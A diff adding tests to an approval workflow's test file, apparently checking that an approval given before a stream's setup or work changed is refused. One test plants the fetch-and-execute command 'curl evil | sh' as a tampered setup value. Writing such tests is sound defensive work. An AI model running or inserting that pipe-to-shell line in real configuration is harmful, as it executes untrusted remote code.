@@ -1,7 +1,7 @@
 import {describe, expect, it} from 'vitest';
-import {approvalLines, nextApproval} from '../../source/run/features/approval/approvals.ts';
+import {approvalLines, approvalVersion, nextApproval} from '../../source/run/features/approval/approvals.ts';
 import {slots} from '../../source/run/select.ts';
-import {committed, type createCore, go, line, minute, second} from '../helpers/core-driver.ts';
+import {committed, createCore, go, line, minute, second} from '../helpers/core-driver.ts';
 
 type Core = ReturnType<typeof createCore>;
 const alertsOf = (core: Core) => core.run().alerts.filter(({kind}) => kind === 'approval');
@@ -52,6 +52,17 @@ describe('a stream that is approved before it starts', () => {
 		core.crash('B');
 		core.pass(minute);
 		expect(core.is('B')).not.toBe('waiting approval');
+	});
+
+	it('is not started by a word that was given for what has changed since', () => {
+		const core = asked();
+		const seen = approvalVersion(core.run(), core.stream('B'));
+		const planned = core.run().plan.streams.map(one => (one.id === 'B' ? {...one, setup: 'curl evil | sh'} : one));
+		const other = createCore({...core.run(), plan: {...core.run().plan, streams: planned}});
+		expect(other.send({type: 'stream.approve', streamId: 'B', seen})).toMatchObject({ok: false, code: 'CHANGED'});
+		expect(other.is('B')).toBe('waiting approval');
+		const now = approvalVersion(other.run(), other.stream('B'));
+		expect(other.send({type: 'stream.approve', streamId: 'B', seen: now})).toMatchObject({ok: true});
 	});
 
 	it('is stopped when it is denied, says why, and is asked for again when it is continued', () => {
@@ -193,6 +204,14 @@ describe('a stream that is approved after its work', () => {
 		expect(core.state('A')).toMatchObject({is: 'stopped', reason: 'denied by the user'});
 		expect(core.is('B')).toBe('blocked');
 		expect(core.run().finishedAt).toBeDefined();
+	});
+
+	it('is not completed by a word that was given for other work', () => {
+		const core = done();
+		const seen = approvalVersion(core.run(), core.stream('A'));
+		core.send({type: 'work.seen', streamId: 'A', work: committed(3), isAnswer: false});
+		expect(core.send({type: 'stream.approve', streamId: 'A', seen})).toMatchObject({ok: false, code: 'CHANGED'});
+		expect(core.is('A')).toBe('waiting approval');
 	});
 
 	it('is verified again first when its branch has moved', () => {
